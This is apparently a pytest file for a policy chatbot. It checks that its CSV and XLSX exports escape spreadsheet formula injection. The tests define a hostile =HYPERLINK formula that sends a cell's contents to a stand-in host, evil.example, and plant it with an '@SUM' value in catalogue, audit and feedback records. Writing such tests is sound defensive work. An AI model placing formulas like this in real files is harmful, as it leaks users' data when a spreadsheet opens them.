"""Exports stay data (issue 22): no CSV or XLSX cell of any export is run as a formula by a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
POLICY = """临沧市科技创新券管理办法（试行）
一、支持对象
在临沧市注册的科技型中小企业。
二、支持标准
企业购买检验检测服务的，按实际支出的50%给予创新券补助，每家企业每年最高不超过18万元。
本办法自2026年1月1日起施行，有效期至2028年12月31日。
"""


@pytest.mark.unit
def test_inert_prefixes_every_active_start_and_leaves_the_rest():
    from policybot.text.tabular import inert

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert(start + "1+1") == "'" + start + "1+1"
    assert inert("临沧市") == "临沧市" and inert(-5) == -5 and inert(None) is None and inert("a=b") == "a=b"


def _cells_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _assert_csv_inert(text: str) -> None:
    cells = _cells_csv(text)
    assert "'" + EVIL in cells, cells[:20]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not c[1:].replace(".", "").isdigit())
                   for c in cells)


def _assert_xlsx_inert(path) -> None:
    from openpyxl import load_workbook

    ws = load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == "'" + EVIL for c in cells)
    assert all(c.data_type == "s" for c in cells)  # no formula anywhere
    assert not any(c.value.startswith("=") for c in cells)


@pytest.fixture
def hostile(fake_settings):
    """An index over the corpus plus one document titled EVIL (a sidecar) whose quote is EVIL too (an item)."""
    from policybot.index.build import ingest
    from policybot.index.embeddings import make_embedder
    from policybot.index.reader import open_index

    settings = fake_settings.model_copy(update={"admin_key": "desk=s3cret"})
    (settings.corpus_dir / "evil.txt").write_text(POLICY, encoding="utf-8")
    (settings.corpus_dir / "evil.meta.json").write_text(json.dumps({"title": EVIL}), encoding="utf-8")
    embedder = make_embedder(settings.embedding)
    ingest(settings, embedder, progress=False)
    return settings, embedder, open_index(settings, embedder)


def _evil_items(index):
    from dataclasses import replace

    items = [it for it in index.catalogue if it.title == EVIL]
    assert items, "the hostile document yields a catalogue item"
    return [replace(items[0], quote=EVIL, benefit="-" + items[0].benefit)] + items


@pytest.mark.integration
def test_catalogue_and_match_exports_write_formulas_as_text(hostile, tmp_path):
    from policybot.catalogue.listing import to_csv, to_xlsx

    _, _, index = hostile
    items = _evil_items(index)
    _assert_csv_inert(to_csv(items))
    _assert_csv_inert(to_csv(items, {it.item_id: "eligible" for it in items}))  # the match export
    _assert_xlsx_inert(to_xlsx(items, tmp_path / "政策清单.xlsx"))
    _assert_xlsx_inert(to_xlsx(items, tmp_path / "政策匹配.xlsx", {it.item_id: "possible" for it in items}, "政策匹配"))


@pytest.mark.integration
def test_audit_csv_the_apis_csv_formats_and_the_feedback_exports_are_inert(hostile, tmp_path):
    from fastapi.testclient import TestClient

    from policybot.serving.api import create_app
    from policybot.serving.web.files import audit_csv
    from policybot.workspace import AuditLog
    from policybot.workspace.feedback import FeedbackStore

    settings, _, _ = hostile
    log = AuditLog(tmp_path / "audit.sqlite")
    log.write(EVIL, "upload", EVIL, "0" * 64, "rejected", "@SUM(1+1)")
    for text in (log.to_csv(), log.to_csv(chinese=True)):
        _assert_csv_inert(text)
        assert "'@SUM(1+1)" in _cells_csv(text)

    feedback = FeedbackStore(tmp_path / "fb.sqlite")
    feedback.add(-1, EVIL, EVIL, True, [{"quote": EVIL}], comment=EVIL)
    client = TestClient(create_app(settings, feedback=feedback, with_ui=False))
    got = client.get("/api/catalogue", params={"format": "csv"})
    assert got.status_code == 200
    _assert_csv_inert(got.text)
    client.app.app.state.workspace.audit.write("desk", "upload", EVIL, "0" * 64)
    got = client.get("/api/admin/audit", params={"format": "csv"}, headers={"X-API-Key": "s3cret"})
    assert got.status_code == 200
    _assert_csv_inert(got.text)
    _assert_csv_inert(audit_csv(client.app.app.state.workspace))

    # the 👎 exports are JSON lines: every line is a JSON object, the hostile text only inside a JSON string
    for export in (feedback.export_candidates, feedback.export_all):
        out = tmp_path / f"{export.__name__}.jsonl"
        assert export(out) == 1
        lines = out.read_text(encoding="utf-8").splitlines()
        assert all(line.startswith("{") for line in lines) and EVIL in json.loads(lines[0]).values().__str__()
